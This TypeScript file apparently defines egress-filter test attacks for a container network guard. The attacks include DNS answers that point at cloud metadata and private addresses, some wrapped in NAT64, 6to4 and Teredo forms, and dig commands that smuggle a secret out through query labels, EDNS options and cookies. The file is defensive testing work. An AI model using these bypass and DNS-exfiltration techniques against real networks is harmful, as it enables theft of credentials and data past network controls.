import { encode } from 'dns-packet'
import type { DnsScript } from '../dns-script.ts'
import { INET } from '../topology.ts'
import type { Attack } from './attack.ts'
import type { Attacker } from './attacker.ts'
import type { Scene } from './scene.ts'

/** Where no name may lead: metadata, private ranges, and IPv6 addresses that carry such an IPv4 address. */
const TRAPS = [
  INET.metadata,
  '168.63.129.16',
  '100.100.100.200',
  '192.168.77.7',
  '10.99.5.5',
  '100.64.9.9',
  INET.metadata6,
  'fd12:3456::9',
  '64:ff9b::a9fe:a9fe',
  '64:ff9b::c0a8:4d07',
  '64:ff9b:1::a9fe:a9fe',
  '2002:a9fe:a9fe::1',
  '2002:c0a8:4d07::1',
  '2001:0:c633:6401::5601:5601',
  '::a9fe:a9fe',
] as const

const scriptOf = (address: string): DnsScript =>
  address.includes(':') ? { aaaa: [address] } : { a: [address] }
const nameOf = (index: number): string => `trap${index}.example`

async function sendTo({ container }: Attacker): Promise<number> {
  const each = TRAPS.map(
    (address) => `sender flood --proto=udp --dst=${address} --port=443 --rate=10 --seconds=1 &`,
  )
  await container.exec(['sh', '-c', `${each.join(' ')} wait`], { timeoutMs: 60_000 })
  return 10 * TRAPS.length
}

async function trapped({ lab }: Scene, sent: number): Promise<Awaited<ReturnType<Attack['play']>>> {
  const totals = await lab.farEnd.totals()
  const arrived = TRAPS.map((address) => [address, totals.get(address) ?? 0] as const).filter(
    ([, count]) => count > 0,
  )
  return {
    sent,
    arrived: arrived.reduce((sum, [, count]) => sum + count, 0),
    details: arrived.map(([address, count]) => `${address}: ${count}`),
  }
}

const lyingNames = (name: string, words: string, gateway: boolean): Attack => ({
  name,
  seat: 'name server',
  words,
  shows: 'a name led a container to metadata or to a private network',
  async play(scene) {
    const { lab } = scene
    await lab.inet.dns(Object.fromEntries(TRAPS.map((address, index) => [nameOf(index), scriptOf(address)])))
    const place = await scene.network('names')
    const attacker = await scene.attacker('names', place, { name: 'names' })
    const names = TRAPS.map((_, index) => nameOf(index))
    await scene.guard(
      `dns: { gateway: ${gateway} }\nallow: [{ domains: [${names.join(', ')}], ports: any }]\n`,
    )
    const digs = names.map((one) => `dig +tries=1 +time=2 ${one} A ${one} AAAA >/dev/null`)
    await attacker.container.exec(['sh', '-c', digs.join('; ')], { timeoutMs: 90_000 })
    await lab.farEnd.reset()
    return trapped(scene, await sendTo(attacker))
  },
})

const internet: Attack = {
  name: 'internet-wrapped',
  seat: 'container',
  words:
    'with `to: internet`, sends to metadata and private addresses, plain and wrapped in NAT64, 6to4 and Teredo',
  shows: 'what is not the internet was taken for it',
  quick: true,
  async play(scene) {
    const place = await scene.network('names')
    const attacker = await scene.attacker('names', place, { name: 'names' })
    await scene.guard('allow: [{ to: internet, ports: any }]\n')
    return trapped(scene, await sendTo(attacker))
  },
}

const ODD_TYPES = 48

/** Each question of another type says 16 bits to the server of the zone; options of EDNS and forbidden names say more. */
const oddQuestions: Attack = {
  name: 'odd-questions',
  seat: 'name server',
  words: `asks for an allowed name with ${ODD_TYPES} unknown types, odd classes, options of EDNS that carry data, and names below it`,
  shows: 'what a container wrote into a question reaches the name server',
  async play(scene) {
    const { lab, secret } = scene
    const place = await scene.network('names')
    const attacker = await scene.attacker('names', place, { name: 'names' })
    await scene.guard('dns: { gateway: true }\nallow: [allowed.example]\n')
    const text = secret.toString('hex')
    const far = await scene.farEnd()
    await lab.inet.forget()
    const digs = [
      ...Array.from({ length: ODD_TYPES }, (_, index) => `-t TYPE${40_000 + index} allowed.example`),
      ...['CH', 'HS', 'CLASS77'].map((one) => `-c ${one} allowed.example`),
      ...['ANY', 'NULL', 'AXFR', 'TXT', 'NS', 'SOA', 'HTTPS', 'KEY'].map(
        (type) => `-t ${type} ${text}.allowed.example`,
      ),
      `+ednsopt=65001:${text} allowed.example`,
      `+cookie=${text} allowed.example`,
      `+ednsopt=12:${text} allowed.example`,
      `+subnet=203.0.113.77/32 allowed.example`,
      `@${INET.otherDns} ${text}.example`,
      `+tcp @${INET.otherDns} ${text}.example`,
    ]
    const script = digs.map((one) => `dig +tries=1 +time=1 +retry=0 ${one} >/dev/null 2>&1`).join('; ')
    await attacker.container.exec(['sh', '-c', script], { timeoutMs: 120_000 })
    const { count } = await far.count()
    const queries = await lab.inet.queries()
    const odd = queries.filter(
      ({ name, type }) => name.toLowerCase() === 'allowed.example' && type.startsWith('UNKNOWN'),
    )
    const below = queries.filter(({ name }) => name.toLowerCase().includes(text))
    return {
      sent: digs.length,
      arrived: odd.length + below.length + count,
      details: [
        `${odd.length} questions of unknown types (${16 * odd.length} bits)`,
        `${below.length} questions that carry the secret as a label`,
        `${count} packets that carry it as bytes`,
      ],
    }
  },
}

const CHAIN = 12

/** An answer leads to a host, the answer about that host leads to another: each link is a question about a name nobody allowed. */
const learnedChain: Attack = {
  name: 'learned-chain',
  seat: 'name server',
  words: `SRV answers that lead from an allowed name along a chain of ${CHAIN} names of somebody else’s zone`,
  shows: 'a name that was learned teaches the next: a container asks for whatever its accomplice names',
  async play(scene) {
    const { lab } = scene
    const place = await scene.network('names')
    const attacker = await scene.attacker('names', place, { name: 'names' })
    const links = [
      '_x._tcp.allowed.example',
      ...Array.from({ length: CHAIN }, (_, index) => `n${index}.other.example`),
    ]
    await lab.inet.dns(
      Object.fromEntries(
        links.slice(0, -1).map((name, index) => [name, { raw: srv(name, links[index + 1] ?? '') }]),
      ),
    )
    await scene.guard('dns: { gateway: true }\nallow: ["**.allowed.example"]\n')
    await lab.inet.forget()
    const script = links.map((name) => `dig +tries=1 +time=1 ${name} SRV >/dev/null`).join('; ')
    await attacker.container.exec(['sh', '-c', script], { timeoutMs: 60_000 })
    const asked = await lab.inet.queries()
    // The first link is what the answer about the allowed name leads to, which a client has to ask for.
    const later = asked.filter(({ name }) => /^n[1-9]\d*\.other\.example$/i.test(name))
    return { sent: links.length, arrived: later.length, details: later.map(({ name }) => name) }
  },
}

const srv = (name: string, target: string): string =>
  encode({
    type: 'response',
    id: 0,
    flags: 0x0180,
    questions: [{ type: 'SRV', name }],
    answers: [{ type: 'SRV', name, ttl: 60, data: { target, port: 443, priority: 0, weight: 0 } }],
  }).toString('hex')

export const NAMES: readonly Attack[] = [
  lyingNames(
    'lying-names',
    'polled names whose answers are metadata, private, or wrap such addresses',
    false,
  ),
  lyingNames('lying-names-gateway', 'the same names asked for by a container, through the gateway', true),
  internet,
  oddQuestions,
  learnedChain,
]
